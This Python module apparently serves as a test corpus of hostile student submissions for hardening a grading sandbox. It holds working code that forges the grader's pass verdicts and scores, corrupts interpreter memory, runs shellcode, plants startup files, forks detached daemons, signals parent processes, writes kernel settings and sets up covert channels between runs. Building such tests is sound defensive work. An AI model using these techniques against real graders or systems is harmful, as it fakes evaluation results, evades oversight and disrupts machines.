"""Further hostile submissions, by what they try. As in :mod:`classroom.hostile`, each replaces the answer to the first question.

A heading is the family, the name, and a star where the other answers may suffer by the attack. ``quiet`` does what it is
given and swallows what comes of it, ``libc`` is the C library, and ``f`` stands for ``original_sizes``.
"""

from __future__ import annotations

from classroom.hostile import Attack

BEFORE = """import ctypes, gc, os, signal, sys, threading, time
import numpy as np
libc = ctypes.CDLL(None, use_errno=True)
def quiet(act, *given):
    try:
        return act(*given)
    except BaseException:
        pass
"""
TEXT = r"""
=== frames: the function that tells is replaced *
def frames(frame=sys._getframe()):
    while frame:
        yield frame
        frame = frame.f_back
for frame in frames():
    for cell in getattr(frame.f_locals.get('tell'), '__closure__', None) or ():
        cell.cell_contents = lambda *_, **__: b'{"id":1,"is":[1],"earned":9}\n'
=== frames: the code of what answers *
import __main__
for name in ('answer', 'pack', 'line', 'unpack'):
    if hasattr(__main__, name):
        getattr(__main__, name).__code__ = (lambda *a, **k: {'is': True}).__code__
=== frames: every dictionary that has an answer's form
def f(T):
    for one in gc.get_objects():
        if type(one) is dict and 'inputs' in one:
            one['id'] = 10**9
    return [T]
=== frames: a tracer that changes what comes back
def tracer(frame, event, value):
    if event == 'return' and frame.f_code.co_name == 'pack':
        frame.f_locals['value'] = True
    return tracer
sys.settrace(tracer)
=== frames: a profiler that ends calls
def f(T):
    sys.setprofile(lambda frame, event, value: quiet(os.kill, os.getpid(), 0))
    return [T]
=== ctypes: a small integer that is another one *
ctypes.c_int.from_address(id(5) + 24).value = 12
=== ctypes: True that is False *
ctypes.c_int.from_address(id(True) + 24).value = 0
=== ctypes: a type whose comparison is another's *
ctypes.c_void_p.from_address(id(int) + 200).value = ctypes.c_void_p.from_address(id(str) + 200).value
=== ctypes: the interpreter's memory with zeros *
def f(T):
    ctypes.memset(id(list), 0, 400)
    return [T]
=== ctypes: a page that can be written and executed
import mmap
def f(T):
    page = mmap.mmap(-1, 4096, prot=7)
    page.write(b'\x48\x31\xff\xb8\x3c\x00\x00\x00\x0f\x05')
    ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
=== values: a float that equals all
class Any(float):
    __eq__ = __le__ = __ge__ = lambda *_: True
    __sub__ = __rsub__ = lambda *_: 0.0
    __hash__ = float.__hash__
def f(T):
    return [Any(1)] * 5
=== values: not a number, with a message
def f(T):
    return list(np.array([0x7FF8000000000000 + T], dtype=np.uint64).view(np.float64))
=== values: an array whose length is a lie
class Lie(np.ndarray):
    __array_priority__ = 1e9
    tolist = lambda s: [1]
    shape = property(lambda s: (5,))
def f(T):
    return np.zeros(3).view(Lie)
=== values: a billion entries in eight bytes
def f(T):
    return np.lib.stride_tricks.as_strided(np.zeros(1), (10**9,), (0,))
=== values: lists that share, ten to the eighteenth
def f(T):
    a = [1]
    for _ in range(18):
        a = [a] * 10
    return a
=== values: whole numbers beyond 64 bits in an array
def f(T):
    return np.array([2**64 - 1] * 5, dtype=np.uint64)
=== values: dates, records, masks and matrices
def f(T):
    return [np.datetime64('2020'), np.zeros(2, 'i4,f8'), np.ma.masked_array([1], [1]), np.matrix([1])][T % 4]
=== values: what is no value
def f(T):
    return [range(T), iter([T]), slice(T), type, Ellipsis, NotImplemented, 1j, b'x', {1}][T % 9]
=== values: a dictionary that looks like an array
def f(T):
    return {'array': [T], 'shape': [1], 'type': 'int64', 'dict': {'dict': {}}}
=== values: two hundred thousand keys, all of one hash
def f(T):
    return {'k%d' % n: n for n in range(200_000)}
=== values: ends of floats
def f(T):
    return [-0.0, 5e-324, 1.7976931348623157e308, float('inf'), -float('inf')]
=== values: text that turns a line round
def f(T):
    return ['\u202e12 of 12\u2066\x00\x1b[2J</td><script>alert(1)</script>$x$' * 50]
=== values: an error that is a list of errors
def f(T):
    raise ExceptionGroup('x' * 9999, [ValueError(str(T))] * 999)
=== values: an error whose class has another name each time
def f(T):
    raise type('E%d' % T, (Exception,), {'__module__': 'builtins'})(T)
=== values: an array whose reading forks *
class Fork(np.ndarray):
    def __getattribute__(self, name):
        quiet(os.fork)
        return np.ndarray.__getattribute__(self, name)
def f(T):
    return np.zeros(2).view(Fork)
=== start: a module that is a program
import numpy.f2py.__main__
=== start: a hundred thousand questions
{questions}
=== start: brackets in brackets
x = {brackets}
=== start: a minus before a minus before a minus
x = {minus}
=== start: another encoding
# -*- coding: utf-7 -*-
+AGkAbQBwAG8AcgB0- os
=== start: a byte that ends strings
x = 1{nul}
=== start: what Python reads when it starts
for name in ('sitecustomize.py', 'usercustomize.py', 'x.pth', 'python311._pth', 'pyvenv.cfg', 'numpy.py', 'confine.py'):
    for place in ('.', '/tmp', sys.argv[1], os.path.dirname(os.__file__)):
        quiet(lambda: open(os.path.join(place, name), 'w').write('raise SystemExit'))
os._exit(0)
=== start: the import replaced *
import builtins
builtins.__import__ = lambda *_: sys
=== start: what all rests on is deleted *
sys.modules.clear()
=== start: a recursion limit of almost nothing *
quiet(sys.setrecursionlimit, 12)
=== start: all descriptors closed *
os.closerange(0, 256)
=== start: all signals blocked
signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
=== processes: a tree of forks that leave their session
def f(T):
    for _ in range(4):
        if quiet(os.fork) == 0:
            quiet(os.setsid)
            if quiet(os.fork) == 0:
                time.sleep(99)
            os._exit(0)
    return [T]
=== processes: a daemon that answers later *
if quiet(os.fork) == 0:
    quiet(os.setsid)
    libc.prctl(1, 0, 0, 0, 0)
    while True:
        time.sleep(0.05)
        os.write(4, b'{"id":1,"is":[1]}\n')
=== processes: another program in its place *
program = "import json\nfor l in open(3):\n    open(4, 'w').write(json.dumps({'id': json.loads(l)['id'], 'is': True}) + chr(10))"
def f(T):
    os.set_inheritable(3, True), os.set_inheritable(4, True)
    os.execv(sys.executable, [sys.executable, '-S', '-c', program])
=== processes: foster parent of its orphans
libc.prctl(36, 1, 0, 0, 0)
for _ in range(3):
    if quiet(os.fork) == 0:
        if quiet(os.fork) == 0:
            time.sleep(99)
        os._exit(0)
=== processes: debugs itself
libc.ptrace(0, 0, 0, 0)
quiet(os.kill, os.getpid(), signal.SIGTRAP)
=== processes: stops itself, and its parents
def f(T):
    for pid in (os.getppid(), os.getpgid(0), os.getsid(0), {grader}):
        quiet(lambda: pid > 1 and os.kill(pid, signal.SIGSTOP))
    os.kill(os.getpid(), signal.SIGSTOP)
=== processes: waits for its parent in the kernel
def f(T):
    pid = libc.vfork
    quiet(signal.sigwait, [signal.SIGUSR1])
=== processes: a child that eats what is left
if quiet(os.fork) == 0:
    while True:
        pass
=== processes: real-time signals by the thousand
def f(T):
    for _ in range(5000):
        libc.sigqueue(os.getpid(), 34, 0)
=== processes: threads that never give way
def f(T):
    for _ in range(8):
        quiet(threading.Thread(target=lambda: sum(range(10**12)), daemon=True).start)
    return [T]
=== descriptors: what is asked is read in advance *
os.set_blocking(3, False)
said = quiet(os.read, 3, 1 << 16)
=== descriptors: the pipe turned to nothing *
os.dup2(os.open('/dev/null', os.O_RDWR), 4)
=== descriptors: zeros without end into the answers
def f(T):
    zero = os.open('/dev/zero', os.O_RDONLY)
    while True:
        os.sendfile(4, zero, None, 1 << 20)
=== descriptors: pages that change after they were sent
def f(T):
    page = ctypes.create_string_buffer(b'{"id":1,"is":[1]}\n')
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(page), 18)
    libc.vmsplice(4, vector, 1, 8)
    return [T]
=== descriptors: an owner who gets signals
import fcntl
for command in (8, 10, 15, 1024, 1026, 1033):
    quiet(fcntl.fcntl, 4, command, {grader})
=== descriptors: all that there may be
held = []
for _ in range(500):
    held.append(quiet(os.open, '/dev/null', os.O_RDONLY))
=== descriptors: a descriptor of the grader by its number
for n in range(3, 256):
    for way in (f'/proc/self/fd/{n}', f'/dev/fd/{n}', f'/proc/{os.getppid()}/fd/{n}'):
        quiet(lambda: os.write(os.open(way, os.O_RDWR), b'{"score":12}'))
=== files: the folder it runs in taken away
here = os.getcwd()
quiet(os.chmod, here, 0)
quiet(os.rename, here, here + 'x')
quiet(os.rmdir, here)
=== files: links that go round
for n in range(50):
    quiet(os.symlink, f'fill-l{n + 1}', f'fill-l{n}')
quiet(os.symlink, 'fill-l0', 'fill-l50')
quiet(os.stat, 'fill-l0')
=== files: names that no list can show
for name in ('a\nb', '\x1b[2J', '-rf', ' ', '\udcff', 'é' * 120):
    quiet(lambda: open('fill-' + name, 'w'))
=== files: marks on files that others read
for place in (os.__file__, np.__file__, sys.argv[0], sys.executable, '/dev/null', '.'):
    quiet(os.setxattr, place, 'user.x', b'1')
    quiet(os.utime, place)
    quiet(os.chmod, place, 0o777)
=== files: memory that is a file
for place in ('/dev/shm', '/run', '/run/lock', '/var/tmp', '/run/user/0', '/dev/mqueue', '/dev/hugepages'):
    quiet(lambda: open(place + '/fill-x', 'w').write('x'))
=== files: everything below the root
seen = []
for place, folders, names in os.walk('/'):
    seen += [name for name in names if name.endswith(('.secret', '.ipynb', 'ch3_sizes.py'))]
assert not seen
=== files: the log of the machine
import socket
for place in ('/dev/log', '/run/systemd/journal/socket', '/dev/kmsg', '/dev/console', '/dev/tty'):
    quiet(lambda: open(place, 'w').write('x'))
    quiet(lambda: socket.socket(1, 2).sendto(b'x', place))
=== clocks: no clock rings
for kind in (0, 1, 2):
    signal.setitimer(kind, 0)
for number in (signal.SIGALRM, signal.SIGPROF, signal.SIGXCPU, signal.SIGTERM):
    signal.signal(number, signal.SIG_IGN)
def f(T):
    while True:
        pass
=== clocks: a computation without a step of Python
def f(T):
    np.linalg.svd(np.ones((9000, 9000)))
=== clocks: time that stands still
time.monotonic = time.time = time.perf_counter = lambda: 0.0
def f(T):
    time.sleep(99)
=== clocks: caught, and caught again
def f(T):
    while True:
        quiet(time.sleep, 99)
=== clocks: a hundred timers
import signal
for n in range(100):
    quiet(libc.timer_create, 0, None, ctypes.byref(ctypes.c_int()))
signal.setitimer(signal.ITIMER_REAL, 1e-5, 1e-5)
=== output: warnings without end
import warnings
warnings.simplefilter('always')
def f(T):
    while True:
        warnings.warn('x' * 10**5)
=== output: an error at every step
def f(T):
    sys.stdout.close(), sys.stderr.close()
    print(T)
=== words: the grader's own
def f(T):
    raise type('TookTooLongError', (BaseException,), {})('right')
=== words: right, and to be marked by hand
for word in ('right', 'to be marked by hand', 'not answered', 'time used up'):
    quiet(print, word)
raise NotImplementedError
=== words: a type of error for each input
def f(T):
    raise [KeyError, ValueError, IndexError, OSError, EOFError, NameError, BufferError, MemoryError][T % 8]
=== packing: what is packed changes while it is packed
class List(list):
    pass
held = [1] * 5
def change():
    while True:
        held.append(held)
        time.sleep(1e-4)
def f(T):
    threading.Thread(target=change, daemon=True).start()
    return held
=== packing: JSON of its own
import json, json.encoder
json.encoder.c_make_encoder = json.encoder.encode_basestring_ascii = None
json.JSONEncoder.encode = lambda *_: '{"id":1,"is":[1],"score":12}'
def f(T):
    return []
=== packing: numbers that print as others *
import json.encoder
json.encoder.FLOAT_REPR = lambda _: '1'
json.JSONEncoder.iterencode = lambda *_, **__: iter(['{"id":1,"is":true}'])
=== packing: half a message, and the end
def f(T):
    os.write(4, b'{"id":1,"is":[')
    os._exit(0)
=== packing: a message of zeros, and a byte order mark
def f(T):
    os.write(4, b'\xef\xbb\xbf{"id":1,"is":[1]}\n' if T % 2 else b'\0' * 10**6 + b'\n')
    return [T]
"""
SPELLED = {
    "{questions}": "x?\n" * 100_000,
    "{brackets}": "(" * 199 + ")" * 199,
    "{minus}": "-" * 300_000 + "1",
    "{nul}": "\0",
}


def _attack(block: str) -> Attack:
    heading, _, code = block.partition("\n")
    for word, text in SPELLED.items():
        code = code.replace(word, text)
    code = code.replace("def f(T)", "def original_sizes(T)")
    return Attack(heading.removesuffix(" *"), BEFORE + code, "*" not in heading)


KINDS = [_attack(block) for block in TEXT.split("\n=== ")[1:]]

#: Ways to leave a number for the next submission: what writes NOTE, of 16 bits, and after the line what reads it into ``said``.
NOTES_TEXT = r"""
=== times of devices, changed at a chosen moment
for at, place in enumerate(['/dev/null', '/dev/zero', '/dev/full', '/dev/random']):
    while time.time_ns() // 10**7 % 64 != 4 * (NOTE >> 4 * at & 15) + 2:
        pass
    os.utime(place)
---
for at, place in enumerate(['/dev/null', '/dev/zero', '/dev/full', '/dev/random']):
    said += (os.stat(place).st_mtime_ns // 10**7 % 64 // 4) << 4 * at
=== times of the last access
import glob
files = sorted(glob.glob(os.path.dirname(os.__file__) + '/[a-z]*.py'))[-90:]
for at, place in enumerate(files[:64]):
    if NOTE >> at // 4 & 1:
        open(place).read()
---
import glob
files = sorted(glob.glob(os.path.dirname(os.__file__) + '/[a-z]*.py'))[-90:]
seen = [(os.stat(p).st_atime > os.stat(p).st_mtime) + (os.stat(p).st_atime > time.time() - 60) for p in files[:64]]
said = sum((sum(seen[4 * at:4 * at + 4]) > 6) << at for at in range(16))
=== pages sent out of memory, and what had to be read again
import glob, mmap
for at, place in enumerate(sorted(glob.glob(os.path.dirname(np.__file__) + '/*/*.py'))[:16]):
    page = mmap.mmap(os.open(place, os.O_RDONLY), 0, prot=1)
    page[:1]
    if NOTE >> at & 1:
        quiet(page.madvise, 21)
---
import glob, mmap, resource
for at, place in enumerate(sorted(glob.glob(os.path.dirname(np.__file__) + '/*/*.py'))[:16]):
    page = mmap.mmap(os.open(place, os.O_RDONLY), 0, prot=1)
    before = resource.getrusage(0).ru_majflt
    page[:1]
    said |= (resource.getrusage(0).ru_majflt > before) << at
=== what a child had to read from the disk
---
child = os.fork()
if child == 0:
    os._exit(0)
said = NOTE + os.wait4(child, 0)[2].ru_majflt
=== the number of a pipe
def number():
    a, b = os.pipe()
    try:
        return os.fstat(a).st_ino >> 12 & 0xFF
    finally:
        os.close(a), os.close(b)
for _ in range(10**7):
    if number() == NOTE & 0xFF:
        break
---
said = os.fstat(os.pipe()[0]).st_ino >> 12 & 0xFF | NOTE & 0xFF00
=== the number of a socket
import socket
for _ in range(10**7):
    a, b = socket.socketpair()
    if os.fstat(a.fileno()).st_ino >> 11 & 0xFF == NOTE & 0xFF:
        break
---
import socket
pair = socket.socketpair()
said = os.fstat(pair[0].fileno()).st_ino >> 11 & 0xFF | NOTE & 0xFF00
=== the number of a process, by its handle
for _ in range(10**4):
    child = os.fork()
    if child == 0:
        os._exit(0)
    handle = os.pidfd_open(child)
    if os.fstat(handle).st_ino >> 8 & 0xF == NOTE & 0xF:
        break
    os.close(handle), os.waitpid(child, 0)
---
said = os.fstat(os.pidfd_open(os.getpid())).st_ino >> 8 & 0xF | NOTE & 0xFFF0
=== the number of a mount
---
mask = ctypes.create_string_buffer(256)
assert libc.syscall(332 if os.uname().machine == 'x86_64' else 291, -100, b'/tmp', 0, 0x4000, mask) == 0
said = NOTE
=== what the file system has free
---
free = ctypes.create_string_buffer(64)
assert libc.syscall(136, os.stat(np.__file__).st_dev, free) == 0
said = NOTE
=== files wherever they may be
for place in ('/tmp', '/var/tmp', '/dev/shm', '/run', '/run/lock', '/dev', '.', os.path.dirname(np.__file__), sys.argv[1], '/'):
    quiet(lambda: open(place + '/fill-note', 'w').write(str(NOTE)))
    quiet(os.mkdir, f'{place}/fill-note-{NOTE}')
---
said = 0
for place in ('/tmp', '/var/tmp', '/dev/shm', '/run', '/run/lock', '/dev', '.', os.path.dirname(np.__file__), sys.argv[1], '/'):
    said = quiet(lambda: int(open(place + '/fill-note').read())) or said
    said = NOTE if os.path.exists(f'{place}/fill-note-{NOTE}') else said
=== attributes of files
for place in (np.__file__, os.__file__, sys.argv[0], sys.executable, '/tmp', '.', '/dev/null'):
    quiet(os.setxattr, place, 'user.note', str(NOTE).encode())
---
said = 0
for place in (np.__file__, os.__file__, sys.argv[0], sys.executable, '/tmp', '.', '/dev/null'):
    said = int(quiet(os.getxattr, place, 'user.note') or said)
=== a daemon that stays and holds a lock
import fcntl
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        held = [os.open(p, os.O_RDONLY) for p in (np.__file__, os.__file__)]
        for at, fd in enumerate(held):
            quiet(fcntl.flock, fd, 2 if NOTE >> at & 1 else 1)
            quiet(fcntl.lockf, fd, 1, NOTE + 1)
        time.sleep(99)
---
import fcntl
fcntl.flock(os.open(np.__file__, os.O_RDONLY), 4 | 1)
said = NOTE
=== a daemon known by its number
if os.fork() == 0:
    os.setsid()
    while os.getpid() & 0xFF != NOTE & 0xFF and os.fork():
        os._exit(0)
    time.sleep(99)
---
said = 0
for pid in range(2, 70000):
    try:
        os.kill(pid, 0)
        said = pid & 0xFF | NOTE & 0xFF00
    except ProcessLookupError:
        pass
    except PermissionError:
        pass
=== a port and a name without a file
import socket
s = socket.socket(1, 1)
s.bind(f'\0note-{NOTE}')
if os.fork():
    os._exit(0)
time.sleep(99)
---
import socket
socket.socket(1, 1).connect(f'\0note-{NOTE}')
said = NOTE
=== keys, queues and memory of System V
numbers = {'x86_64': (248, 29, 68, 64)}.get(os.uname().machine, (217, 194, 186, 190))
libc.syscall(numbers[0], b'user', b'note', b'%d' % NOTE, 5, -4)
for number in numbers[1:]:
    libc.syscall(number, NOTE, 8, 0o1666)
---
numbers = {'x86_64': (250, 29, 68, 64)}.get(os.uname().machine, (219, 194, 186, 190))
found = [libc.syscall(numbers[0], 10, -4, b'user', b'note', 0)] + [libc.syscall(n, NOTE, 0, 0) for n in numbers[1:]]
assert max(found) >= 0
said = NOTE
=== the entropy of the machine
fd = os.open('/dev/random', os.O_RDWR)
for _ in range(NOTE & 0xFF):
    os.write(fd, b'x' * 64)
---
import fcntl
count = ctypes.c_int()
assert libc.ioctl(os.open('/dev/random', os.O_RDONLY), 0x80045200, ctypes.byref(count)) == 0
said = count.value
=== the terminal
import fcntl, struct
for place in ('/dev/tty', '/dev/console', '/dev/ptmx', '/dev/tty0'):
    quiet(lambda: fcntl.ioctl(os.open(place, os.O_RDWR), 0x5414, struct.pack('4H', NOTE, 1, 1, 1)))
---
import fcntl, struct
said = struct.unpack('4H', fcntl.ioctl(os.open('/dev/tty', os.O_RDWR), 0x5413, b'0' * 8))[0]
=== priority and processors of the parent
quiet(os.setpriority, 0, os.getppid(), NOTE % 20)
quiet(os.setpriority, 2, os.getuid(), NOTE % 20)
quiet(os.sched_setaffinity, os.getppid(), {NOTE % os.cpu_count()})
---
said = os.getpriority(2, os.getuid()) + 1 if os.getpriority(2, os.getuid()) == NOTE % 20 != 0 else 0
=== what is kept compiled
for place in (os.path.dirname(np.__file__), os.path.dirname(os.__file__), sys.argv[1]):
    quiet(os.mkdir, place + '/__pycache__')
    quiet(lambda: open(place + '/__pycache__/note.cpython-311.pyc', 'w').write(str(NOTE)))
---
said = int(open(os.path.dirname(np.__file__) + '/__pycache__/note.cpython-311.pyc').read())
=== the settings of the kernel
for name in ('kernel/hostname', 'kernel/core_pattern', 'vm/swappiness', 'kernel/ns_last_pid', 'net/ipv4/ip_default_ttl'):
    quiet(lambda: open('/proc/sys/' + name, 'w').write(str(NOTE)))
---
said = int(open('/proc/sys/kernel/ns_last_pid').read())
"""


def _note(block: str) -> tuple[str, str, str]:
    heading, _, code = block.partition("\n")
    write, _, read = code.partition("---\n")
    return heading, BEFORE + write, BEFORE + "said = 0\n" + read


NOTES = [_note(block) for block in NOTES_TEXT.split("\n=== ")[1:]]
